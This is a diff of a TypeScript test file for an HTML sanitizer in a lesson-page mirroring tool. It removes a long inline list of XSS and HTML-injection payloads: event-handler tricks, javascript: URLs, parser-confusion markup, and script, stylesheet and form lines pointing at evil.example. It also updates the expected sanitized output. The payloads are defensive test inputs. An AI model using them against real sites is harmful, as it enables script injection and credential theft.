@@ -9,6 +9,7 @@ import { decodeText } from '../../../../app/mirror/decode-text.ts';
 import { addressBook } from '../../../../core/mirror/address-book.ts';
 import { siteLink } from '../../../../core/mirror/site-link.ts';
 import { sha256 } from '../../../../core/units.ts';
+import { DISGUISES } from './hostile.ts';
 
 const markup = lessonMarkup(mirrorWords('fr'));
 const book = addressBook({
@@ -31,67 +32,6 @@ function harm(html: string): readonly unknown[] {
   );
   return [...scanPage('/p.html', html), ...(seen ?? [])];
 }
-
-const DISGUISES = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<script\n>alert(1)</script\t>',
-  '<script/x>alert(1)</script>',
-  '<<script>alert(1)//<</script>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="x"onerror="alert(1)">',
-  '<img/src=x/onerror=alert(1)>',
-  '<img src=`x` onerror=alert(1)>',
-  '<body onload=alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="java&Tab;script:alert(1)">x</a>',
-  '<a href="java&NewLine;script:alert(1)">x</a>',
-  '<a href=" &#1; javascript:alert(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-  '<a href="vbscript:x">x</a>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src="javascript:alert(1)">',
-  '<object data="evil.swf"><param name=x></object>',
-  '<embed src="//evil.example/x.swf">',
-  '<svg onload=alert(1)><script>alert(1)</script></svg>',
-  '<svg><style><img src=x onerror=alert(1)></style></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
-  '<math href="javascript:alert(1)">x</math>',
-  '<style>@import "//evil.example/x.css"; body{background:url(javascript:1)}</style>',
-  '<p style="background:url(//evil.example/x)">x</p>',
-  '<p style="position:fixed;inset:0">x</p>',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=//evil.example">',
-  '<base href="//evil.example/">',
-  '<form action="//evil.example"><input name=password type=password><button formaction=javascript:alert(1)>ok</button></form>',
-  '<isindex action=javascript:alert(1)>',
-  '<textarea><script>alert(1)</script></textarea>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '<xmp><script>alert(1)</script></xmp>',
-  '<plaintext><script>alert(1)</script>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<!--><script>alert(1)</script>-->',
-  '<!-- --!><script>alert(1)</script>',
-  '<![CDATA[><script>alert(1)</script>]]>',
-  '<?xml version="1.0"?><script>alert(1)</script>',
-  '<video poster=//evil.example/p><source src=//evil.example/v onerror=alert(1)></video>',
-  '<picture><source srcset="//evil.example/x"><img src="//evil.example/y"></picture>',
-  '<img srcset="//evil.example/x 2x" src="i.png">',
-  '<table background="//evil.example/x"><td background="//evil.example/x">x</table>',
-  '<details ontoggle=alert(1) open>x</details>',
-  '<a href="https://x" target=_blank onclick="alert(1)">x</a>',
-  '<x-evil onmouseover=alert(1) style="x:expression(alert(1))">x</x-evil>',
-  '<p id="x" title="&quot;><script>alert(1)</script>">x</p>',
-  '<a title="\u0000"><\u0000script>alert(1)</\u0000script>',
-  '<frameset><frame src=javascript:alert(1)></frameset>',
-  '<keygen autofocus onfocus=alert(1)>',
-  '<dialog open><form method=dialog><input autofocus onfocus=alert(1)></form></dialog>',
-];
 
 describe('a hostile page', () => {
   it.each(DISGUISES)('is harmless: %j', (html) => {
@@ -177,7 +117,7 @@ describe('an honest page', () => {
     const html =
       '<h2 id="t">Titre</h2><p>Voir <a href="a.html#x">là</a> et <strong>ici</strong>.</p><img src="i.png" alt="courbe" width="20">';
     expect(body(html)).toBe(
-      '<h2 id="t">Titre</h2><p>Voir <a href="./a.html#x">là</a> et <strong>ici</strong>.</p><img src="./i.png" alt="courbe" width="20" loading="lazy">',
+      '<h2 id="t">Titre</h2><p>Voir <a href="./a.html#x">là</a> et <strong>ici</strong>.</p><img src="./i.png" alt="courbe" width="20" loading="lazy" />',
     );
   });
   it('shows what it was made of: the only article, without the site’s menus', () => {
@@ -202,10 +142,10 @@ describe('an honest page', () => {
   });
   it('says in words what it cannot show', () => {
     expect(body('<iframe src="https://www.geogebra.org/m/x"></iframe>')).toBe(
-      '<span class="preau-note">[contenu interactif ou d&#39;un autre site, absent de cette copie : <a href="https://www.geogebra.org/m/x" rel="noopener nofollow">https://www.geogebra.org/m/x</a>]</span>',
+      '<span class="preau-note">[contenu interactif ou d\'un autre site, absent de cette copie : <a href="https://www.geogebra.org/m/x" rel="noopener nofollow">https://www.geogebra.org/m/x</a>]</span>',
     );
     expect(body('<img src="https://x.example/y.png" alt="carte">')).toContain(
-      'image d&#39;un autre site, absente de cette copie : carte',
+      "image d'un autre site, absente de cette copie : carte",
     );
     expect(body('<form><input type=text></form>')).toContain('rien ne peut être envoyé');
   });
